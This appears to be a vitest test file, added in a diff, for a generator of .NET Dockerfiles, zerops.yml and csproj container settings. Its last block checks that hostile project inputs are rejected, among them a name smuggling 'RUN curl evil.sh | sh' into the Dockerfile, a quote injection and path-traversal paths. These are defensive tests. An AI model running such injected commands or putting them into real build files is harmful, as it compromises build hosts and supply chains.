@@ -1,0 +1,166 @@
+import {readFileSync} from 'node:fs';
+import {Ajv2020} from 'ajv/dist/2020.js';
+import {DockerfileParser} from 'dockerfile-ast';
+import {validate} from 'dockerfile-utils';
+import {parse as parseYaml} from 'yaml';
+import {describe, expect, it} from 'vitest';
+import {tagExists} from '../source/catalog/catalog.js';
+import {recommend, type Recommendation} from '../source/engine/recommend.js';
+import {makeProject} from '../source/project/project.js';
+import {renderCsproj} from '../source/render/csproj.js';
+import {renderDockerfile} from '../source/render/dockerfile.js';
+import {renderDockerignore} from '../source/render/dockerignore.js';
+import {generateFiles} from '../source/render/files.js';
+import {renderZerops, zeropsDotnetBases} from '../source/render/zerops.js';
+import {allAnswers, recommendationFor, today} from './answers.js';
+
+const project = makeProject({name: 'SampleApi', projectFile: 'src/SampleApi/SampleApi.csproj', restoreFiles: ['Directory.Build.props', 'src/SampleApi/SampleApi.csproj']});
+const schema = JSON.parse(readFileSync(new URL('fixtures/zerops-yml-schema.json', import.meta.url), 'utf8'));
+const validateZerops = new Ajv2020({strict: false, allErrors: true}).compile(schema);
+
+const allowed: Recommendation[] = allAnswers()
+	.map(answers => recommend(answers, today))
+	.flatMap(outcome => (outcome.ok ? [outcome.recommendation] : []));
+
+function imageReference(from: string): {repo: string; tag: string} {
+	const match = /^mcr\.microsoft\.com\/dotnet\/([a-z-]+):(.+)$/.exec(from);
+	if (!match) throw new Error(`not an official .NET image: ${from}`);
+	return {repo: match[1]!, tag: match[2]!};
+}
+
+describe('Dockerfile for every allowed combination', () => {
+	it('parses without errors, uses catalog tags only and follows the structural rules', () => {
+		expect(allowed.length).toBeGreaterThan(1000);
+		for (const recommendation of allowed) {
+			const label = JSON.stringify(recommendation.answers);
+			const content = renderDockerfile(recommendation, project, 'sampleapi');
+			const errors = validate(content).filter(diagnostic => diagnostic.severity === 1);
+			expect(errors, `${label}\n${content}`).toEqual([]);
+
+			const dockerfile = DockerfileParser.parse(content);
+			const froms = dockerfile.getFROMs();
+			expect(froms, label).toHaveLength(2);
+			const [build, runtime] = froms as [typeof froms[0], typeof froms[0]];
+			for (const from of froms) {
+				const {repo, tag} = imageReference(from.getImage()!);
+				expect(tagExists(repo as never, tag), `${label}: ${repo}:${tag}`).toBe(true);
+			}
+			expect(imageReference(build.getImage()!).repo, label).toBe('sdk');
+			expect(build.getBuildStage(), label).toBe('build');
+			const cross = recommendation.buildMode !== 'emulated';
+			expect(build.getFlags().map(flag => `${flag.getName()}=${flag.getValue()}`), label).toEqual(cross ? ['platform=$BUILDPLATFORM'] : []);
+
+			const instructions = dockerfile.getInstructions();
+			const runtimeStart = instructions.indexOf(runtime);
+			const buildStage = instructions.slice(0, runtimeStart);
+			const runtimeStage = instructions.slice(runtimeStart);
+			const publish = buildStage.filter(instruction => instruction.getKeyword() === 'RUN').map(instruction => instruction.getRawArgumentsContent()).find(text => text?.includes('dotnet publish'))!;
+			expect(publish, label).toContain('--no-restore');
+			if (cross) expect(publish, label).toContain('-a $TARGETARCH');
+			if (cross) expect(buildStage.some(instruction => instruction.getKeyword() === 'ARG' && instruction.getRawArgumentsContent() === 'TARGETARCH'), label).toBe(true);
+
+			const keywords = runtimeStage.map(instruction => instruction.getKeyword());
+			expect(keywords, label).not.toContain('RUN');
+			const copies = runtimeStage.filter(instruction => instruction.getKeyword() === 'COPY') as Array<ReturnType<typeof dockerfile.getCOPYs>[number]>;
+			expect(copies.map(copy => [copy.getFlags().map(flag => `${flag.getName()}=${flag.getValue()}`).join(' '), copy.getRawArgumentsContent()]), label).toEqual([['link=null from=build', '/app .']]);
+			expect(keywords.includes('USER'), label).toBe(!recommendation.runtime.image.distroless);
+			expect(keywords.includes('EXPOSE'), label).toBe(recommendation.answers.app === 'web');
+			const entrypoint = runtimeStage.find(instruction => instruction.getKeyword() === 'ENTRYPOINT')!.getRawArgumentsContent();
+			expect(entrypoint, label).toBe(recommendation.answers.deploy === 'framework' ? '["dotnet", "SampleApi.dll"]' : '["./SampleApi"]');
+			const invariant = content.match(/DOTNET_SYSTEM_GLOBALIZATION_INVARIANT=(\w+)/)?.[1];
+			if (invariant) expect(invariant, label).toBe(recommendation.answers.globalization === 'invariant' ? 'true' : 'false');
+		}
+	});
+
+	it('restores from the project files alone, before copying the source', () => {
+		const content = renderDockerfile(recommendationFor({}), project, 'sampleapi');
+		expect(content).toContain('COPY --link Directory.Build.props .\nCOPY --link src/SampleApi/SampleApi.csproj src/SampleApi/\nRUN dotnet restore src/SampleApi/SampleApi.csproj -a $TARGETARCH\n\nCOPY --link . .');
+	});
+
+	it('adds the cross toolchain for Native AOT on Ubuntu, and the AOT packages where no -aot SDK exists', () => {
+		const ubuntu = renderDockerfile(recommendationFor({deploy: 'aot'}), project, 'sampleapi');
+		expect(ubuntu).toContain('gcc-$triple zlib1g-dev:$TARGETARCH');
+		expect(ubuntu).toContain('Suites: noble noble-updates');
+		const debian9 = renderDockerfile(recommendationFor({dotnet: '9.0', deploy: 'aot', os: 'debian'}), project, 'sampleapi');
+		expect(debian9).toContain('apt-get install -y --no-install-recommends clang zlib1g-dev');
+		expect(debian9).toMatch(/^FROM mcr\.microsoft\.com\/dotnet\/sdk:9\.0-bookworm-slim AS build$/m);
+	});
+
+	it('names the buildx command for the chosen platforms', () => {
+		expect(renderDockerfile(recommendationFor({arch: ['arm64']}), project, 'sampleapi')).toContain('# Build: docker buildx build --platform linux/arm64 --tag sampleapi --load .');
+		expect(renderDockerfile(recommendationFor({}), project, 'sampleapi')).toContain('--platform linux/amd64,linux/arm64 --tag sampleapi --push .');
+	});
+});
+
+describe('zerops.yml', () => {
+	it('validates against the Zerops schema for every allowed combination it supports', () => {
+		let checked = 0;
+		for (const recommendation of allowed) {
+			if (!zeropsDotnetBases.includes(recommendation.answers.dotnet.split('.')[0]!)) continue;
+			const {content} = renderZerops(recommendation, project);
+			const document = parseYaml(content);
+			expect(validateZerops(document), `${JSON.stringify(recommendation.answers)}\n${JSON.stringify(validateZerops.errors)}`).toBe(true);
+			const run = document.zerops[0].run;
+			expect(run.start).toMatch(recommendation.answers.deploy === 'framework' ? /^dotnet \.\/app\/SampleApi\.dll$/ : /^\.\/app\/SampleApi$/);
+			checked++;
+		}
+		expect(checked).toBeGreaterThan(500);
+	});
+
+	it('builds a custom runtime image when the Alpine runtime needs ICU', () => {
+		const {content, notes} = renderZerops(recommendationFor({os: 'alpine', globalization: 'icu'}), project);
+		expect(parseYaml(content).zerops[0].run.prepareCommands).toEqual(['sudo apk add --no-cache icu-libs icu-data-full tzdata']);
+		expect(notes.join(' ')).toMatch(/custom runtime image/);
+		expect(parseYaml(renderZerops(recommendationFor({os: 'alpine'}), project).content).zerops[0].run.prepareCommands).toBeUndefined();
+	});
+
+	it('refuses a .NET version Zerops has no base for, and skips it within "all"', () => {
+		const preview = recommendationFor({dotnet: '11.0'});
+		expect(() => renderZerops(preview, project)).toThrow(/Zerops has no dotnet@11 base/);
+		const {files, notes} = generateFiles(preview, project, 'sampleapi', {kinds: ['dockerfile', 'zerops'], explicit: false});
+		expect(files.map(file => file.name)).toEqual(['Dockerfile']);
+		expect(notes[0]).toMatch(/zerops\.yml skipped/);
+	});
+});
+
+describe('representative files', () => {
+	it.each([
+		['web-chiseled', {}],
+		['worker-alpine-icu-self-contained', {app: 'console', os: 'alpine', globalization: 'icu', deploy: 'self-contained', arch: ['amd64', 'arm64', 'arm']}],
+		['web-aot-cross', {deploy: 'aot'}],
+		['web-composite-azurelinux', {os: 'azurelinux', startup: 'composite', arch: ['amd64']}],
+		['web-full-debian-readytorun', {dotnet: '9.0', os: 'debian', shell: 'yes', startup: 'readytorun'}],
+	] as const)('%s', async (name, overrides) => {
+		const recommendation = recommendationFor(overrides as never);
+		const {files} = generateFiles(recommendation, project, 'sampleapi', {kinds: ['dockerfile', 'zerops', 'csproj'], explicit: false});
+		const text = files.map(file => `==> ${file.name} <==\n${file.content}`).join('\n');
+		await expect(text).toMatchFileSnapshot(`snapshots/${name}.txt`);
+	});
+
+	it('ignores build output, local state and secrets', () => {
+		const ignore = renderDockerignore().split('\n');
+		for (const entry of ['**/bin/', '**/obj/', '.git/', '.vs/', '.vscode/', '.idea/', '**/.env', '**/secrets.json', '**/Dockerfile*']) expect(ignore).toContain(entry);
+	});
+
+	it('gives SDK container properties for the same choice', () => {
+		const csproj = renderCsproj(recommendationFor({os: 'alpine', globalization: 'icu', deploy: 'aot'}), project, 'sampleapi');
+		expect(csproj).toContain('<ContainerBaseImage>mcr.microsoft.com/dotnet/runtime-deps:10.0-alpine-extra</ContainerBaseImage>');
+		expect(csproj).toContain('<ContainerRuntimeIdentifiers>linux-musl-x64;linux-musl-arm64</ContainerRuntimeIdentifiers>');
+		expect(csproj).toContain('<PublishAot>true</PublishAot>');
+		expect(csproj).toContain('<InvariantGlobalization>false</InvariantGlobalization>');
+		expect(csproj).toContain('dotnet publish src/SampleApi/SampleApi.csproj -c Release /t:PublishContainer -->');
+		expect(renderCsproj(recommendationFor({app: 'console', arch: ['arm64']}), project, 'sampleapi')).toContain('/t:PublishContainer -a arm64 -->');
+	});
+});
+
+describe('values that reach generated files', () => {
+	it.each([
+		['a newline and RUN in the assembly name', {name: 'App\nRUN curl evil.sh | sh'}],
+		['a quote in the assembly name', {name: 'App", "--evil'}],
+		['a parent directory in the project path', {name: 'App', projectFile: '../secret/App.csproj'}],
+		['a space in the project path', {name: 'App', projectFile: 'src/My App/App.csproj'}],
+		['an absolute project path', {name: 'App', projectFile: '/etc/App.csproj'}],
+	])('rejects %s', (_name, input) => {
+		expect(() => makeProject(input)).toThrow(/can only contain|must be a relative path/);
+	});
+});
